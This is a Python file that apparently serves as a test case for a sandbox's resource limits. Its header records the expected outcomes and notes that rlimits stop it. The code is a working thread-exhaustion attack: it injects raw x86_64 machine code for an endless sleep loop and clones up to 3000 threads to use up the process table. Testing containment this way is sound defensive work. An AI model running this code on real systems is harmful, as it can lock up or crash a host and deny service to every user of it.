# attack: where threads are allowed, starts them with stacks of nothing until no process can be started any more
# full: contained | crashed
# reduced: contained | crashed
# limits: threads = true
# stopped-by: rlimits
import ctypes
import mmap
import platform
import struct

MOST = 3000  # of 32,768 that many machines have for all their processes
SHARED = 0x100 | 0x200 | 0x400 | 0x800 | 0x1_0000  # memory, folder, files, signals, one process


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    if platform.machine() != "x86_64":
        return "held: there is no such code for this machine"
    page = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    begin = ctypes.addressof(ctypes.c_char.from_buffer(page))
    page[2048:2064] = struct.pack("<qq", 1000, 0)
    # for ever: nanosleep(begin + 2048, 0)
    code = b"\xb8\x23\x00\x00\x00\x48\xbf" + struct.pack("<Q", begin + 2048) + b"\x31\xf6\x0f\x05"
    code += b"\xeb" + struct.pack("b", -len(code) - 2)
    page[: len(code)] = code
    stacks = mmap.mmap(-1, 1 << 20)
    top = ctypes.addressof(ctypes.c_char.from_buffer(stacks))
    libc.clone.argtypes = [ctypes.c_void_p, ctypes.c_void_p, ctypes.c_int, ctypes.c_void_p]
    for started in range(MOST):
        if libc.clone(begin, top + 512 * (1 + started % 2000), SHARED, None) < 0:
            return f"held after {started}"
    return f"through: {MOST} threads"
